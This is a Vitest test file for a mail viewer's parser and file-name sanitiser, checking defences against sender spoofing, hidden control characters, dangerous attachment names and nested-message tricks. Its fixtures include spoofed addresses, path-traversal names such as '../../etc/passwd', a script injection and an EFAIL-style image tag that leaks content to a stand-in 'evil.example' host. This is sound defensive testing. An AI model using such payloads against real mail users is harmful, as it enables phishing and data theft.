import { describe, expect, it } from 'vitest'
import { safeFileName } from '../../../../src/browser/viewer/mail/file-name.ts'
import { parseMail } from '../../../../src/browser/viewer/mail/parse-mail.ts'
import { read, utf8 } from './mail-text.ts'

describe('threat: several From headers', () => {
  it('shows all of them and says so', () => {
    const mail = read('From: boss@bank.example', 'From: me@else.example', '', 'x')
    expect(mail.from.map(({ address }) => address)).toEqual([
      'boss@bank.example',
      'me@else.example',
    ])
    expect(mail.warnings).toContain('several-from')
  })

  it('shows all mailboxes of one field and says so', () => {
    const mail = read('From: boss@bank.example, me@else.example', '', 'x')
    expect(mail.from).toHaveLength(2)
    expect(mail.warnings).toContain('several-from')
  })

  it('does not let a bare CR hide the second one', () => {
    expect(read('From: boss@bank.example\rFrom: me@else.example', '', 'x').warnings).toContain(
      'several-from',
    )
  })

  it('shows the first subject of several and says so', () => {
    const mail = read('Subject: one', 'Subject: two', '', 'x')
    expect([mail.subject, mail.warnings]).toEqual(['one', ['repeated-field']])
  })
})

describe('threat: <valid>:<attacker> addresses', () => {
  it.each([
    '<boss@bank.example>:<me@else.example>',
    '<boss@bank.example> <me@else.example>',
    'boss@bank.example <me@else.example>',
    '"boss@bank.example" <me@else.example>',
    '=?utf-8?q?boss=40bank=2Eexample?= <me@else.example>',
    'boss＠bank.example <me@else.example>',
    '<@boss@bank.example:me@else.example>',
    '<boss@bank.example@else.example>',
    '=?utf-8?q?boss=40bank.example=00?=@else.example',
  ])('says that %s is ambiguous', from => {
    const mail = parseMail(utf8(`From: ${from}\r\n\r\nx`))
    expect(mail.warnings).toContain('ambiguous-sender')
  })

  it('says nothing about an ordinary sender', () => {
    expect(read('From: "Ann Lee" <ann@bank.example>', '', 'x').warnings).toEqual([])
  })
})

describe('threat: NUL, line breaks and RTL override in names', () => {
  it.each([
    ['NUL', '=?utf-8?q?boss=40bank.example=00?='],
    ['line feed', '=?utf-8?q?Boss=0AFrom:_x?='],
    ['carriage return', '=?utf-8?q?Boss=0Dx?='],
    ['RTL override', '=?utf-8?q?Boss=E2=80=AEx?='],
    ['isolate', '=?utf-8?q?Boss=E2=81=A6x?='],
    ['line separator', '=?utf-8?q?Boss=E2=80=A8x?='],
  ])('takes a %s out of a name and says so', (_what, name) => {
    const mail = read(`From: ${name} <me@else.example>`, '', 'x')
    expect(mail.from[0]?.name).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}]/u)
    expect(mail.warnings).toEqual(expect.arrayContaining(['ambiguous-sender', 'hidden-text']))
  })

  it('takes a raw NUL out of a name and says so', () => {
    expect(read('From: Bo\0ss <me@else.example>', '', 'x')).toMatchObject({
      from: [{ name: 'Bo ss', ambiguous: true }],
      warnings: ['ambiguous-sender', 'hidden-text'],
    })
  })

  it('shows what is hidden in a subject', () => {
    const mail = read('Subject: =?utf-8?q?a=00b=E2=80=AEc?=', '', 'x')
    expect([mail.subject, mail.warnings]).toEqual(['a[U+0000]b[U+202E]c', ['hidden-text']])
  })
})

describe('threat: look-alike and dangerous file names', () => {
  it.each([
    ['invoice\u202efdp.exe', 'invoicefdp.exe'],
    ['a\0b\r\nc.txt', 'abc.txt'],
    ['../../etc/passwd', 'passwd'],
    ['..\\..\\boot.ini', 'boot.ini'],
    ['C:\\x\\y.txt', 'y.txt'],
    ['.htaccess', 'htaccess'],
    ['name.exe. . ', 'name.exe'],
    ['nul', '_nul'],
    ['COM1.txt', '_COM1.txt'],
    ['console.txt', 'console.txt'],
    ['a<b>c:d"e|f?g*h.txt', 'a_b_c_d_e_f_g_h.txt'],
    ['zero\u200bwidth.txt', 'zerowidth.txt'],
    ['\ud800.txt', 'txt'],
    ['..', ''],
    ['/', ''],
    ['', ''],
  ])('saves %j as %j', (given, safe) => {
    expect(safeFileName(given)).toBe(safe)
  })

  it('cuts long names and keeps their ending', () => {
    const name = safeFileName(`${'ü'.repeat(500)}.docx`)
    expect(new TextEncoder().encode(name).length).toBeLessThanOrEqual(200)
    expect(name).toMatch(/^ü+….docx$/u)
  })

  it('says that something was hidden, and never gives an empty name', () => {
    const mail = read("Content-Type: application/pdf; name*=utf-8''%E2%80%AE", '', 'x')
    expect([mail.attachments[0]?.name, mail.warnings]).toEqual([
      'attachment-1.pdf',
      ['hidden-text', 'no-body'],
    ])
  })

  it('does not let a type leave its field', () => {
    expect(
      read('Content-Type: text/"><script>', '', 'x').attachments[0]?.type ?? 'text',
    ).not.toMatch(/[<>"]/)
  })
})

describe('threat: an attached message posing as the message itself', () => {
  const attached = ['From: boss@bank.example', 'Subject: inner', '', 'inner text']

  it('stays closed, as a file named after its subject', () => {
    const mail = read(
      'From: me@else.example',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: message/rfc822',
      'Content-Disposition: inline',
      '',
      ...attached,
      '--b--',
    )
    expect(mail.from.map(({ address }) => address)).toEqual(['me@else.example'])
    expect([mail.subject, mail.body.text]).toEqual(['', null])
    expect(mail.attachments.map(({ name, type }) => [name, type])).toEqual([
      ['inner.eml', 'message/rfc822'],
    ])
  })

  it('stays closed when the whole mail is nothing else', () => {
    const mail = read('From: me@else.example', 'Content-Type: message/rfc822', '', ...attached)
    expect([mail.from[0]?.address, mail.body.text, mail.attachments.length]).toEqual([
      'me@else.example',
      null,
      1,
    ])
  })

  it('is not read from the preamble, the epilogue or behind a first empty line', () => {
    const mail = read('', ...attached)
    expect([mail.from, mail.subject]).toEqual([[], ''])
  })

  it('cannot add parts to the mail around it', () => {
    const inner = [
      'Content-Type: multipart/mixed; boundary=i',
      '',
      '--i',
      'Content-Type: a/b; name=inner',
      '',
      'x',
      '--i--',
    ]
    const mail = read(
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: message/rfc822',
      '',
      ...inner,
      '--b--',
    )
    expect(mail.attachments.map(({ type }) => type)).toEqual(['message/rfc822'])
    expect(
      parseMail(mail.attachments[0]?.bytes ?? new Uint8Array()).attachments.map(({ name }) => name),
    ).toEqual(['inner'])
  })
})

describe('threat: one part of a mail swallows the next (EFAIL)', () => {
  it('keeps the parts of the body apart', () => {
    const mail = read(
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/html',
      '',
      '<img src="https://evil.example/',
      '--b',
      '',
      'secret',
      '--b--',
    )
    expect(mail.body.sections).toHaveLength(2)
  })

  it('gives a content id to the first part that claims it', () => {
    const part = (text: string) => ['--b', 'Content-Type: image/png', 'Content-ID: <a>', '', text]
    const mail = read(
      'Content-Type: multipart/related; boundary=b',
      '',
      ...part('one'),
      ...part('two'),
      '--b--',
    )
    expect(mail.inline.get('a')?.bytes).toEqual(utf8('one'))
  })
})
